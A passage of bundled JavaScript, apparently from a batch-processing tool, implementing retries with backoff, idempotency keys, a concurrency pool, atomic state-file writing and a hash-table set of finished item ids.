        if (kind === "permanent" || kind === "quarantined")
            this.failedFinal++;
        if (outcome.deferred)
            this.deferredForBudget++;
        const quarantine = kind === "quarantined" ? ` after failing in ${runs} runs` : "";
        this.sinks.itemLog.write(`✗ ${logId(item.id)}: ${oneLine(outcome.error)} (${kind}${quarantine}, ${record.attempts} attempt(s))`);
    }
    stopIfFailureRateTooHigh() {
        const { meter, stop } = this.sinks;
        const { maxFailureRate } = this.options;
        const finished = meter.succeeded + meter.failed;
        if (maxFailureRate === undefined || finished < MIN_ITEMS_FOR_FAILURE_RATE || meter.failed / finished <= maxFailureRate)
            return;
        if (!stop.soft.signal.aborted) {
            this.options.log.error(`${meter.failed} of ${finished} items failed (more than max-failure-rate ${maxFailureRate}): stopping early, something upstream looks broken`);
        }
        stop.request("failure-rate", this.options.shutdownGraceMs);
    }
}

;// CONCATENATED MODULE: ./src/core/run/backoff.ts
function backoffDelayMs(failedAttempt, policy, random, retryAfterMs) {
    const exponent = Math.min(Math.max(failedAttempt - 1, 0), 52);
    const ceilingMs = Math.min(policy.maxMs, policy.baseMs * 2 ** exponent);
    const jittered = ceilingMs * (0.5 + random() * 0.5);
    const delay = retryAfterMs !== undefined ? Math.max(jittered, retryAfterMs) : jittered;
    return Math.round(delay);
}

;// CONCATENATED MODULE: external "node:crypto"
const external_node_crypto_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");
;// CONCATENATED MODULE: ./src/core/run/idempotency.ts

/**
 * A stable idempotency key for an item: the same for every attempt and every run of one
 * pass, and independent of shard count or item order. Namespaced (by the state key in the
 * action) so that two batches with overlapping ids do not share keys.
 *
 * The key names the batch, the item, the pass and the item's version (how many times the
 * item changed within the pass, with `reprocess-changed`), so a deliberate re-process is a
 * new operation downstream and a repeat of the same operation is not. Pass 1 of an item
 * that never changed keeps the key releases before passes gave it (namespace, NUL, id):
 * upgrading must not turn finished work into new operations for an API that stores keys.
 */
function idempotencyKey(id, namespace = "", pass = 1, version = 0) {
    const hash = (0,external_node_crypto_namespaceObject.createHash)("sha256").update(namespace).update("\0").update(id);
    if (pass !== 1 || version !== 0)
        hash.update("\0").update(`pass ${pass} version ${version}`);
    return hash.digest("hex").slice(0, 32);
}

;// CONCATENATED MODULE: ./src/core/run/item-runner.ts




/**
 * The context a handler sees. A class with a lazy key, because hashing the id costs about
 * a microsecond — as much as the rest of the engine's per-item work — and most module
 * handlers never read it.
 */
class Context {
    id;
    attempt;
    signal;
    stopping;
    key;
    TransientError = TransientError;
    PermanentError = PermanentError;
    constructor(id, attempt, signal, stopping, o, item) {
        this.id = id;
        this.attempt = attempt;
        this.signal = signal;
        this.stopping = stopping;
        this.#o = o;
        this.#item = item;
    }
    // Truly private (#): a handler that spreads or prints its ctx must not meet the run's options.
    #o;
    #item;
    get idempotencyKey() {
        const o = this.#o;
        const namespace = o.redo !== undefined && o.redo.ids.has(this.id) ? `${o.idempotencyNamespace}\0${o.redo.tag}` : o.idempotencyNamespace;
        return (this.key ??= idempotencyKey(this.id, namespace, o.pass ?? 1, o.versionOf ? o.versionOf(this.#item) : 0));
    }
}
/**
 * Runs one item to an outcome: retries transient failures and timeouts with backoff
 * while attempts, the budget and the run allow; a permanent failure ends at once.
 * @param priorAttempts attempts made in earlier runs (so ITEM_ATTEMPT keeps counting)
 */
function runItem(item, priorAttempts, o) {
    if (o.itemTimeoutMs !== undefined || o.maxAttempts < 1 || o.hard.aborted)
        return runAttempts(item, priorAttempts, o, undefined);
    // The common case — a first attempt without an item timeout — as one promise that the
    // attempt's watcher resolves with the outcome, rather than an async function (its frame
    // and await cost about as much as the rest of the runner) or a `then` on the settled
    // attempt (a promise and a microtask more per item). A failure goes on in runAttempts.
    const startedAtMs = o.budget.deadlineAtMs !== undefined ? o.system.nowMs() : NOT_TIMED;
    const ctx = new Context(item.id, priorAttempts + 1, o.hard, o.soft, o, item);
    return new Promise((resolve) => {
        const first = new FirstAttempt(resolve, o, watchersOf(o.hard), item, priorAttempts, startedAtMs);
        const direct = o.handler.direct;
        if (direct === undefined)
            return first.watch(startAttempt(o.handler, item, ctx));
        // A module: its own promise settled straight into the attempt (see DirectCall).
        let returned;
        try {
            returned = direct.call(item, ctx);
        }
        catch (error) {
            return first.watch(Promise.resolve(failedSafely(direct, error)));
        }
        first.watchDirect(Promise.resolve(returned), direct);
    });
}
/** startedAtMs of a first attempt the budget does not time (no deadline: the clock is spared). */
const NOT_TIMED = -1;
const DONE_AT_FIRST = Object.freeze({ status: "done", attempts: 1 });
/** The attempts loop; `first` is the first attempt's result when runItem already made it. */
async function runAttempts(item, priorAttempts, o, first) {
    let last;
    let made = 0;
    for (let n = 1; n <= o.maxAttempts; n++) {
        if (n > 1 && o.soft.aborted)
            return { status: "cutoff", attempts: n - 1 };
        // Without a deadline the budget never reads what it observes: spare the clock.
        const timed = o.budget.deadlineAtMs !== undefined;
        let startedAtMs = timed ? o.system.nowMs() : 0;
        let result;
        let timedOut = false;
        if (n === 1 && first !== undefined) {
            ({ result, startedAtMs } = first);
        }
        else if (o.itemTimeoutMs === undefined) {
            result = await settle(startAttempt(o.handler, item, new Context(item.id, priorAttempts + n, o.hard, o.soft, o, item)), o.hard, o);
        }
        else {
            ({ result, timedOut } = await attemptWithTimeout(item, priorAttempts + n, o, o.itemTimeoutMs));
        }
        made = n;
        if (result.ok) {
            if (timed)
                o.budget.observe(o.system.nowMs() - startedAtMs);
            return { status: "done", attempts: n, result: result.result };
        }
        if (result.kind === "setup")
            return { status: "setup", error: result.error, attempts: n - 1 };
        if (o.hard.aborted && !timedOut)
            return { status: "cutoff", attempts: n - 1 };
        last = timedOut
            ? { ok: false, kind: "timeout", error: `timed out after ${o.itemTimeoutMs}ms${result.error ? ` (${result.error})` : ""}` }
            : result;
        if (last.kind === "timeout" || last.kind === "transient")
            o.budget.observe(o.system.nowMs() - startedAtMs);
        if (last.kind === "permanent" || n === o.maxAttempts)
            break;
        const delayMs = backoffDelayMs(n, o.backoff, o.system.random, last.retryAfterMs);
        if (!o.budget.fitsWait(o.system.nowMs(), delayMs)) {
            last = {
                ...last,
                error: `${last.error} (not retried: the time budget would not cover the ${Math.round(delayMs)}ms backoff; the next run retries it)`,
            };
            return { status: "failed", kind: last.kind, error: last.error, attempts: n, exitCode: last.exitCode, deferred: true };
        }
        o.onRetry?.(item, priorAttempts + n, last, delayMs);
        if (last.throttled)
            o.onThrottle?.(delayMs);
        await sleepMs(o.system, delayMs, o.soft);
        if (o.soft.aborted)
            return { status: "cutoff", attempts: n };
    }
    const failure = last;
    return { status: "failed", kind: failure.kind, error: failure.error, attempts: made, exitCode: failure.exitCode };
}
/**
 * Calls the handler for one attempt. A handler that throws instead of returning a failure
 * (a bug, an item its serialiser cannot take) fails that item, never the run.
 */
function startAttempt(handler, item, ctx) {
    try {
        return handler.run(item, ctx);
    }
    catch (error) {
        return Promise.resolve(crashed(error));
    }
}
/** A DirectCall's failure result; an error whose classifying throws (a hostile getter) is a crash, as in startAttempt. */
function failedSafely(direct, error) {
    try {
        return direct.failed(error);
    }
    catch (classifying) {
        return crashed(classifying);
    }
}
function crashed(error) {
    return { ok: false, kind: "permanent", error: `handler crashed: ${safeString(error)}` };
}
/** String(error), which may itself throw (a throwing toString, a revoked Proxy). */
function safeString(value) {
    try {
        return value instanceof Error ? `${value.name}: ${value.message}` : String(value);
    }
    catch {
        return "an error that cannot be turned into text";
    }
}
const ABANDONED = Object.freeze({ ok: false, kind: "timeout", error: "the handler did not stop when asked" });
async function attemptWithTimeout(item, attemptNumber, o, itemTimeoutMs) {
    const timeout = new AbortController();
    const cancelTimer = o.system.setTimer(() => timeout.abort(), itemTimeoutMs);
    const signal = AbortSignal.any([o.hard, timeout.signal]);
    try {
        const ctx = new Context(item.id, attemptNumber, signal, o.soft, o, item);
        const result = await settle(o.handler.run(item, ctx), signal, o);
        return { result, timedOut: timeout.signal.aborted && !result.ok };
    }
    finally {
        cancelTimer();
    }
}
/**
 * Waits for the handler; once its signal fires, waits at most abandonAfterMs more. A
 * module that ignores its AbortSignal must not hold the run (or the shutdown) forever.
 */
function settle(run, signal, o) {
    if (signal.aborted)
        return withAbandon(run, o);
    return new Promise((resolve) => new Attempt(resolve, o, watchersOf(signal)).watch(run));
}
/**
 * One attempt waiting for its handler. An object in the signal's watch list rather than
 * an abort closure and an unwatch closure: fewer allocations on the per-item path. What
 * becomes of the result is the subclass's `deliver`, called once.
 */
class Settling {
    o;
    watching;
    cancelAbandon;
    delivered = false;
    /** Neighbours in the watch list while listed (see WatchList). */
    prev;
    next;
    listed = false;
    constructor(o, watching) {
        this.o = o;
        this.watching = watching;
    }
    watch(run) {
        this.watching.add(this);
        run.then((result) => this.end(result), (error) => this.end(crashed(error)));
    }
    /** watch() for a DirectCall's promise: its value or error made the attempt's result here. */
    watchDirect(run, direct) {
        this.watching.add(this);
        run.then((value) => this.end(direct.settled(value)), (error) => this.end(failedSafely(direct, error)));
    }
    /** The signal fired: give the handler abandonAfterMs more. */
    aborted() {
        this.cancelAbandon = this.o.system.setTimer(() => this.once(ABANDONED), this.o.abandonAfterMs);
    }
    end(result) {
        this.watching.remove(this);
        this.cancelAbandon?.();
        this.once(result);
    }
    /** An abandoned attempt's handler may still settle later: its result then goes nowhere. */
    once(result) {
        if (this.delivered)
            return;
        this.delivered = true;
        this.deliver(result);
    }
}
/** An attempt whose caller awaits its result (settle). */
class Attempt extends Settling {
    resolve;
    constructor(resolve, o, watching) {
        super(o, watching);
        this.resolve = resolve;
    }
    deliver(result) {
        this.resolve(result);
    }
}
/** An item's first attempt in runItem's common case: resolves with the item's outcome. */
class FirstAttempt extends Settling {
    resolve;
    item;
    priorAttempts;
    startedAtMs;
    constructor(resolve, o, watching, item, priorAttempts, startedAtMs) {
        super(o, watching);
        this.resolve = resolve;
        this.item = item;
        this.priorAttempts = priorAttempts;
        this.startedAtMs = startedAtMs;
    }
    deliver(result) {
        const { o, startedAtMs } = this;
        if (!result.ok)
            return this.resolve(runAttempts(this.item, this.priorAttempts, o, { result, startedAtMs }));
        if (startedAtMs !== NOT_TIMED)
            o.budget.observe(o.system.nowMs() - startedAtMs);
        this.resolve(result.result === undefined ? DONE_AT_FIRST : { status: "done", attempts: 1, result: result.result });
    }
}
/**
 * The attempts watching one signal, behind one 'abort' listener per signal. Every attempt
 * of a run waits on the same stop signal: adding and removing an EventTarget listener per
 * attempt cost more than the rest of the runner's per-item work. A linked list through
 * the attempts, not a Set: joining and leaving are a few pointer writes, with no hashing,
 * and attempts are told in the order they joined.
 */
class WatchList {
    head;
    tail;
    constructor(signal) {
        signal.addEventListener("abort", () => {
            let s = this.head;
            this.head = this.tail = undefined;
            while (s !== undefined) {
                const next = s.next;
                s.prev = s.next = undefined;
                s.listed = false;
                s.aborted();
                s = next;
            }
        }, { once: true });
    }
    add(s) {
        s.listed = true;
        s.prev = this.tail;
        if (this.tail === undefined)
            this.head = s;
        else
            this.tail.next = s;
        this.tail = s;
    }
    /** Leaving after the signal fired (the list was emptied then) is a no-op. */
    remove(s) {
        if (!s.listed)
            return;
        s.listed = false;
        if (s.prev === undefined)
            this.head = s.next;
        else
            s.prev.next = s.next;
        if (s.next === undefined)
            this.tail = s.prev;
        else
            s.next.prev = s.prev;
        s.prev = s.next = undefined;
    }
}
const watchLists = new WeakMap();
function watchersOf(signal) {
    let list = watchLists.get(signal);
    if (list === undefined) {
        list = new WatchList(signal);
        watchLists.set(signal, list);
    }
    return list;
}
function withAbandon(run, o) {
    return new Promise((resolve) => {
        const cancel = o.system.setTimer(() => resolve(ABANDONED), o.abandonAfterMs);
        run.then((r) => {
            cancel();
            resolve(r);
        }, () => {
            cancel();
            resolve(ABANDONED);
        });
    });
}

;// CONCATENATED MODULE: ./src/core/run/pool.ts
/**
 * Runs work over items pulled one at a time from `next`, at most `concurrency` at once.
 * Items are pulled only when a lane is free (a queue of functions, not of started
 * promises), and `canStart` is asked before each pull, so a stop or an exhausted budget
 * takes effect before the next item, not after the whole queue.
 */
async function runPool(options) {
    const { next, take, canStart, beforeStart, work, after } = options;
    const lane = async (laneIndex) => {
        for (;;) {
            if (!canStart())
                return;
            // Asked again after the wait: a stop or the budget may have come in meanwhile.
            if (beforeStart) {
                const go = beforeStart();
                if (go !== true && (!(await go) || !canStart()))
                    return;
            }
            let item = take?.();
            if (item === undefined)
                item = await next();
            if (item === undefined)
                return;
            const result = await work(item, laneIndex);
            if (after)
                after(item, result, laneIndex);
        }
    };
    const lanes = [];
    for (let i = 0; i < Math.max(1, options.concurrency); i++)
        lanes.push(lane(i));
    await Promise.all(lanes);
}
/**
 * Turns an async generator of batches into a `next()` that many lanes may call at once:
 * one refill is in flight at a time, and each call gets a distinct item. `next.take()`
 * hands out the next item of the current batch at once, or undefined when it is used up.
 */
function batchedNext(batches) {
    let batch = [];
    let index = 0;
    let exhausted = false;
    let refill;
    const take = () => (index < batch.length ? batch[index++] : undefined);
    const next = async () => {
        for (;;) {
            if (index < batch.length)
                return batch[index++];
            if (exhausted)
                return undefined;
            refill ??= batches.next().then((r) => {
                refill = undefined;
                if (r.done)
                    exhausted = true;
                else {
                    batch = r.value;
                    index = 0;
                }
            });
            await refill;
        }
    };
    return Object.assign(next, { take });
}

;// CONCATENATED MODULE: ./src/core/run/process-items.ts





/**
 * After its signal fires, a handler that ignores it is walked away from after the grace,
 * but never later than this: one stuck item must not hold up stopping and saving.
 */
const MAX_ABANDON_AFTER_MS = 2000;
/**
 * Works through the queue, `concurrency` items at a time, until it is empty, a stop
 * arrives or the budget would not cover another item; each outcome goes to the recorder.
 */
async function processItems(options, queue, run) {
    const { state, budget, stop, meter, recorder } = run;
    const runnerOptions = itemRunnerOptions(options, run);
    // When each lane's item started: a lane runs one item at a time.
    const startedAtMs = new Float64Array(Math.max(1, options.concurrency));
    // The clock reading that ended the last item, and its lane while that lane goes straight
    // on to its next item (one at hand, no wait in between): that item starts then, and the
    // clock is read once per item, not twice (~5% of a 1M no-op run). Anything that may
    // wait (fetching more items, a rate limit) clears it.
    let endedAtMs = 0;
    let endedLane = -1;
    await runPool({
        next: () => {
            endedLane = -1;
            return queue.next();
        },
        take: queue.take,
        concurrency: options.concurrency,
        canStart: () => {
            if (stop.soft.signal.aborted)
                return false;
            if (budget.deadlineAtMs === undefined || budget.canStart(options.system.nowMs()))
                return true;
            stopForBudget(options, stop, budget);
            return false;
        },
        beforeStart: options.beforeStart
            ? () => {
                endedLane = -1;
                return options.beforeStart(stop.soft.signal);
            }
            : undefined,
        // Not an async function, and the outcome recorded in `after`, not in a `then` on runItem's
        // promise: a promise and a microtask less per item (about 5% of a 1M no-op run, side by side).
        work: (item, lane) => {
            meter.inFlight++;
            startedAtMs[lane] = endedLane === lane ? endedAtMs : options.system.nowMs();
            endedLane = -1;
            const prior = state.failures.size === 0 ? undefined : state.failures.get(item.id);
            return runItem(item, prior?.attempts ?? 0, runnerOptions);
        },
        after: (item, outcome, lane) => {
            meter.inFlight--;
            endedAtMs = options.system.nowMs();
            recorder.record(item, outcome, startedAtMs[lane], endedAtMs);
            endedLane = lane;
        },
    });
}
function itemRunnerOptions(options, run) {
    return {
        handler: options.handler,
        system: options.system,
        maxAttempts: options.maxAttempts,
        backoff: options.backoff,
        itemTimeoutMs: options.itemTimeoutMs,
        abandonAfterMs: Math.min(MAX_ABANDON_AFTER_MS, options.shutdownGraceMs),
        soft: run.stop.soft.signal,
        hard: run.stop.hard.signal,
        budget: run.budget,
        idempotencyNamespace: options.idempotencyNamespace,
        pass: run.state.pass,
        redo: options.redo,
        // Versions exist only where items changed (or changed in an earlier run with reprocess-changed).
        versionOf: options.changes || run.state.versions.size > 0 ? (item) => versionOf(run.state, item, options.changes) : undefined,
        onThrottle: options.onThrottle,
        onRetry: (item, attempt, result, delayMs) => run.itemLog.write(`↻ ${logId(item.id)}: attempt ${attempt} failed (${result.kind}): ${oneLine(options.redact ? options.redact(result.error) : result.error)}; retrying in ${Math.round(delayMs)}ms`),
    };
}
function stopForBudget(options, stop, budget) {
    if (!stop.soft.signal.aborted) {
        options.log.info("the time budget left would not cover another item: stopping here; the next run resumes");
        // In-flight items may finish, but not past the start of the reserve.
        stop.request("budget", Math.max(0, Math.min(options.shutdownGraceMs, budget.leftMs(options.system.nowMs()))));
    }
}

;// CONCATENATED MODULE: ./src/core/run/progress.ts
/**
 * Rate over a sliding window: samples of (time, finished) taken at each read; the rate is
 * the change across the window, so it follows the current speed, not the run's average.
 */
class ProgressMeter {
    total;
    startedAtMs;
    windowMs;
    succeeded = 0;
    failed = 0;
    inFlight = 0;
    samples = [];
    constructor(total, startedAtMs, windowMs = 10_000) {
        this.total = total;
        this.startedAtMs = startedAtMs;
        this.windowMs = windowMs;
    }
    snapshot(nowMs) {
        const finished = this.succeeded + this.failed;
        this.samples.push({ atMs: nowMs, finished });
        while (this.samples.length > 2 && nowMs - this.samples[0].atMs > this.windowMs)
            this.samples.shift();
        const oldest = this.samples[0];
        const spanMs = nowMs - oldest.atMs;
        const elapsedMs = nowMs - this.startedAtMs;
        let ratePerSec = spanMs > 0 ? ((finished - oldest.finished) * 1000) / spanMs : 0;
        if (ratePerSec === 0 && elapsedMs > 0 && this.samples.length <= 2)
            ratePerSec = (finished * 1000) / elapsedMs;
        const left = Math.max(0, this.total - finished);
        return {
            total: this.total,
            succeeded: this.succeeded,
            failed: this.failed,
            inFlight: this.inFlight,
            left,
            ratePerSec,
            etaMs: ratePerSec > 0 ? (left / ratePerSec) * 1000 : undefined,
            elapsedMs,
        };
    }
}

;// CONCATENATED MODULE: ./src/core/state/line-file.ts


/** Bytes read per call: large enough that the per-call cost vanishes, small enough to never matter. */
const line_file_READ_CHUNK_BYTES = 1024 * 1024;
/** Characters buffered before a write: bounds the writer's memory whatever the file's size. */
const WRITE_BUFFER_CHARS = 1024 * 1024;
/**
 * Calls onLine for each line of a file, in order, reading it a chunk at a time: the file is
 * never one string (V8 caps a string near 512 MiB; a state may be larger). Synchronous, so
 * a signal handler or a status command can rely on it finishing before anything else runs.
 * `terminated` is false only for a last line without its newline (a write torn by a kill).
 * Bytes that are not UTF-8 are a StateError: a state file is only ever written by us.
 * Returns the bytes read.
 */
function forEachLine(path, onLine) {
    const fd = (0,external_node_fs_.openSync)(path, "r");
    const decoder = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
    const chunk = Buffer.allocUnsafe(line_file_READ_CHUNK_BYTES);
    const carry = [];
    let lineNumber = 0;
    let total = 0;
    const decode = (bytes) => {
        try {
            return decoder.decode(bytes);
        }
        catch {
            throw new StateError(`${path}: not valid UTF-8 after line ${lineNumber}; the file is corrupt`);
        }
    };
    try {
        for (;;) {
            const n = (0,external_node_fs_.readSync)(fd, chunk, 0, chunk.length, null);
            if (n === 0)
                break;
            total += n;
            const data = chunk.subarray(0, n);
            const lastNl = data.lastIndexOf(0x0a);
            if (lastNl === -1) {
                carry.push(Buffer.from(data));
                continue;
            }
            // Complete lines are decoded in one call and split as a string: a newline byte never
            // occurs inside a UTF-8 sequence, so that is the same text as decoding line by line.
            const complete = carry.length === 0 ? data.subarray(0, lastNl + 1) : Buffer.concat([...carry, data.subarray(0, lastNl + 1)]);
            carry.length = 0;
            const lines = decode(complete).split("\n");
            lines.pop();
            for (const line of lines)
                onLine(line, ++lineNumber, true);
            if (lastNl + 1 < n)
                carry.push(Buffer.from(data.subarray(lastNl + 1)));
        }
        if (carry.length > 0)
            onLine(decode(Buffer.concat(carry)), ++lineNumber, false);
    }
    finally {
        (0,external_node_fs_.closeSync)(fd);
    }
    return total;
}
/**
 * Like forEachLine, but hands over each line's bytes (bytes[start, end), without its
 * newline) undecoded: a reader that understands some lines' bytes saves making strings of
 * them. The bytes are valid only during the call.
 */
function forEachLineBytes(path, onLine) {
    const fd = (0,external_node_fs_.openSync)(path, "r");
    let chunk = Buffer.allocUnsafe(line_file_READ_CHUNK_BYTES);
    let kept = 0; // bytes of an unfinished line at the start of chunk
    let lineNumber = 0;
    let total = 0;
    try {
        for (;;) {
            if (kept === chunk.length) {
                // A line longer than the buffer: a larger one, the line so far moved over.
                const larger = Buffer.allocUnsafe(chunk.length * 2);
                chunk.copy(larger, 0, 0, kept);
                chunk = larger;
            }
            const n = (0,external_node_fs_.readSync)(fd, chunk, kept, chunk.length - kept, null);
            if (n === 0)
                break;
            total += n;
            const end = kept + n;
            let start = 0;
            for (let nl = chunk.indexOf(0x0a, kept); nl !== -1 && nl < end; nl = chunk.indexOf(0x0a, start)) {
                onLine(chunk, start, nl, ++lineNumber, true);
                start = nl + 1;
            }
            chunk.copy(chunk, 0, start, end);
            kept = end - start;
        }
        if (kept > 0)
            onLine(chunk, 0, kept, ++lineNumber, false);
    }
    finally {
        (0,external_node_fs_.closeSync)(fd);
    }
    return total;
}
/**
 * Writes a file a piece at a time into a temp file beside it, then fsync and rename: a
 * reader (or a crash) sees the old file or the whole new one, never a part. The content
 * is never one string, so it may be larger than a JavaScript string can hold.
 */
class AtomicFileWriter {
    path;
    tmp;
    fd;
    pending = "";
    bytesWritten = 0;
    constructor(path) {
        this.path = path;
        this.tmp = `${path}.tmp-${process.pid}`;
        this.fd = (0,external_node_fs_.openSync)(this.tmp, "w");
    }
    write(text) {
        if (text.length >= WRITE_BUFFER_CHARS) {
            // A large piece (an item of many MiB) is written alone, never joined to the buffer.
            this.flush();
            this.writeNow(text);
            return;
        }
        this.pending += text;
        if (this.pending.length >= WRITE_BUFFER_CHARS)
            this.flush();
    }
    /** Writes bytes (after everything written before them), not joined to the buffer. */
    writeBytes(bytes) {
        this.flush();
        const fd = this.requireOpen();
        let offset = 0;
        while (offset < bytes.length)
            offset += (0,external_node_fs_.writeSync)(fd, bytes, offset);
        this.bytesWritten += bytes.length;
    }
    /** Makes the new file the file: flush, fsync, close, rename. */
    commit() {
        this.flush();
        const fd = this.requireOpen();
        (0,external_node_fs_.fsyncSync)(fd);
        (0,external_node_fs_.closeSync)(fd);
        this.fd = undefined;
        (0,external_node_fs_.renameSync)(this.tmp, this.path);
    }
    /** Gives up: the temp file goes, the file at path stays as it was. */
    abort() {
        if (this.fd !== undefined)
            (0,external_node_fs_.closeSync)(this.fd);
        this.fd = undefined;
        (0,external_node_fs_.rmSync)(this.tmp, { force: true });
    }
    flush() {
        if (this.pending.length === 0)
            return;
        const text = this.pending;
        this.pending = "";
        this.writeNow(text);
    }
    writeNow(text) {
        const fd = this.requireOpen();
        const buffer = Buffer.from(text, "utf8");
        let offset = 0;
        while (offset < buffer.length)
            offset += (0,external_node_fs_.writeSync)(fd, buffer, offset);
        this.bytesWritten += buffer.length;
    }
    requireOpen() {
        if (this.fd === undefined)
            throw new Error(`${this.tmp}: already closed`);
        return this.fd;
    }
}
/** Writes a file through AtomicFileWriter from a producer of pieces; the temp file goes on error. */
function writeFileInPieces(path, produce) {
    const writer = new AtomicFileWriter(path);
    try {
        produce((text) => writer.write(text), (bytes) => writer.writeBytes(bytes));
        writer.commit();
    }
    catch (error) {
        writer.abort();
        throw error;
    }
    return writer.bytesWritten;
}

;// CONCATENATED MODULE: ./src/core/state/state-fingerprints.ts
/**
 * reprocess-changed: the fingerprint of each done (or failed) item's content when it was
 * done (or failed). Where an item lives decides where its fingerprint is kept: beside its id
 * in the done set (one lookup answers "done?" and "what was it?"), in an array beside the
 * ids done by the run in progress, or in a small map for failed items.
 */
class StateFingerprints {
    done;
    /** Of items failed in the pass (few). */
    failed = new Map();
    /** Of the ids done by the run in progress, by their position in doneThisRun (0: none). */
    thisRun = [];
    constructor(done) {
        this.done = done;
    }
    /** Whether any fingerprint is kept (the feature was used in this pass). */
    get any() {
        return this.done().hasValues || this.failed.size > 0 || this.thisRun.length > 0;
    }
    /** The fingerprint recorded for an item done or failed earlier in the pass. */
    get(id) {
        const done = this.done();
        const index = done.hasValues ? done.indexOf(id) : -1;
        if (index >= 0) {
            const value = done.valueAt(index);
            return value === 0 ? undefined : value;
        }
        return this.failed.size === 0 ? undefined : this.failed.get(id);
    }
    /** Records a fingerprint for an item done in an earlier run, or else failed. */
    set(id, fingerprint) {
        const index = this.done().indexOf(id);
        // An ill-formed id (ILL_FORMED_ENTRY) is done but keeps no value: it is never taken as changed.
        if (index !== -1)
            this.done().setValueAt(index, fingerprint);
        else
            this.failed.set(id, fingerprint);
    }
    clear() {
        this.failed.clear();
        this.thisRun.length = 0;
    }
}

;// CONCATENATED MODULE: ./src/core/state/id-hash.ts
/** The hash DoneSet files its ids under, the same for an id given as a string or as its UTF-8 bytes. */
/** asciiHash's answer for a string with a character above U+007F (hashes are 32-bit unsigned). */
const NOT_ASCII = -1;
/**
 * MurmurHash3 (x86, 32-bit, seed 0) over the id's UTF-8 bytes, four bytes a step: half a
 * second less than a byte-at-a-time hash over 2M ids of 300 bytes. For ASCII text the
 * bytes are the character codes, so a query string is hashed without encoding it;
 * asciiHash answers NOT_ASCII for any other text, which is then encoded and hashed as bytes.
 */
function asciiHash(id) {
    const n = id.length;
    const whole = n & ~3;
    let h = 0;
    for (let i = 0; i < whole; i += 4) {
        const c0 = id.charCodeAt(i);
        const c1 = id.charCodeAt(i + 1);
        const c2 = id.charCodeAt(i + 2);
        const c3 = id.charCodeAt(i + 3);
        if ((c0 | c1 | c2 | c3) > 0x7f)
            return NOT_ASCII;
        h = mixWord(h, c0 | (c1 << 8) | (c2 << 16) | (c3 << 24));
    }
    let tail = 0;
    for (let i = n - 1; i >= whole; i--) {
        const c = id.charCodeAt(i);
        if (c > 0x7f)
            return NOT_ASCII;
        tail = (tail << 8) | c;
    }
    return finish(h, tail, n);
}
function bytesHash(bytes, start = 0, end = bytes.length) {
    const n = end - start;
    const whole = start + (n & ~3);
    let h = 0;
    for (let i = start; i < whole; i += 4)
        h = mixWord(h, bytes[i] | (bytes[i + 1] << 8) | (bytes[i + 2] << 16) | (bytes[i + 3] << 24));
    let tail = 0;
    for (let i = end - 1; i >= whole; i--)
        tail = (tail << 8) | bytes[i];
    return finish(h, tail, n);
}
function scramble(k) {
    k = Math.imul(k, 0xcc9e2d51);
    k = (k << 15) | (k >>> 17);
    return Math.imul(k, 0x1b873593);
}
function mixWord(h, word) {
    h ^= scramble(word);
    h = (h << 13) | (h >>> 19);
    return (Math.imul(h, 5) + 0xe6546b64) | 0;
}
function finish(h, tail, length) {
    if ((length & 3) !== 0)
        h ^= scramble(tail);
    h ^= length;
    h ^= h >>> 16;
    h = Math.imul(h, 0x85ebca6b);
    h ^= h >>> 13;
    h = Math.imul(h, 0xc2b2ae35);
    h ^= h >>> 16;
    return h >>> 0;
}

;// CONCATENATED MODULE: ./src/core/state/done-set.ts


/**
 * The set of finished ids: a Set<string> in behaviour (add, has, delete, clear, size,
 * iteration in insertion order), built for millions of ids. The ids are kept as UTF-8
 * bytes in large buffers, found through an open-addressing table of typed arrays: none of
 * it is a JavaScript object, so the garbage collector neither copies nor marks it.
 *
 * Why: a Set of 4.7M ids took 5 s of CPU to fill and most of a resume's memory, and every
 * id it holds is a string that survived two young-generation collections — with a million
 * of them V8 grows the young generation to its maximum and every later phase of the run
 * (the pass over the items) promoted its garbage: +100 MB of heap at 1M done ids.
 *
 * Ids that are not well-formed UTF-16 (a lone surrogate) have no exact UTF-8 form; the few
 * that older states may hold are kept in a plain Set beside the table (iterated last).
 */
class DoneSet {
    chunks = [];
    chunk = EMPTY;
    used = 0;
    /** Per entry (insertion order): its chunk (DELETED once deleted), start and length in bytes. */
    entryChunk = new Uint32Array(16);
    entryStart = new Uint32Array(16);
    entryLength = new Uint32Array(16);
    entries = 0;
    /**
     * Two numbers per slot: 1 + entry number (0 for empty, TOMBSTONE for a deleted one), then
     * the entry's hash. Side by side, so a probe costs one cache miss, not two: at 2M ids the
     * table is far larger than the cache and the misses were a quarter of a load's time.
     */
    table = new Int32Array(2 * 16);
    count = 0;
    illFormed = new Set();
    /** Kept so the reads of addUtf8Block's first loop are not optimised away. */
    touched = 0;
    /**
     * A number per entry (0: none), once any was set: the fingerprints of reprocess-changed.
     * Beside the ids rather than in a Map of their own, so one lookup finds whether an item is
     * done and what it was, and a million of them cost no garbage (a Map of a million ids to
     * 48-bit numbers boxed every value and doubled a resume's cost).
     */
    values;
    constructor(ids) {
        if (ids)
            for (const id of ids)
                this.add(id);
    }
    get size() {
        return this.count + this.illFormed.size;
    }
    /** Makes room for this many ids in all, so filling the set never rehashes. */
    reserve(total) {
        let capacity = this.capacity;
        while (total > capacity * MAX_LOAD)
            capacity *= 2;
        if (capacity !== this.capacity)
            this.rehash(capacity);
        this.growEntries(total, true);
    }
    /** Slots in the table. */
    get capacity() {
        return this.table.length >>> 1;
    }
    /** Entries so far, deleted ones included: the entry number the next id added gets. */
    get entryCount() {
        return this.entries;
    }
    /**
     * The id's entry number (what valueAt and setValueAt take); -1 when it is not in the set,
     * ILL_FORMED_ENTRY when it is but has no entry (an ill-formed id: it keeps no value).
     */
    indexOf(id) {
        const hash = asciiHash(id);
        let slot;
        if (hash !== NOT_ASCII)
            slot = this.findAscii(id, hash);
        else if (!isWellFormed(id))
            return this.illFormed.has(id) ? ILL_FORMED_ENTRY : -1;
        else {
            const bytes = Buffer.from(id, "utf8");
            slot = this.findBytes(bytes, 0, bytes.length, bytesHash(bytes));
        }
        return slot < 0 ? -1 : this.table[2 * slot] - 1;
    }
    /** Whether any entry was given a value. */
    get hasValues() {
        return this.values !== undefined;
    }
    /** The value of entry `e` (from indexOf or entryCount); 0 when it has none. */
    valueAt(e) {
        return this.values === undefined || e < 0 || e >= this.values.length ? 0 : this.values[e];
    }
    setValueAt(e, value) {
        if (e < 0)
            return;
        if (this.values === undefined || e >= this.values.length) {
            const grown = new Float64Array(Math.max(16, this.entryChunk.length, 2 * (e + 1)));
            if (this.values !== undefined)
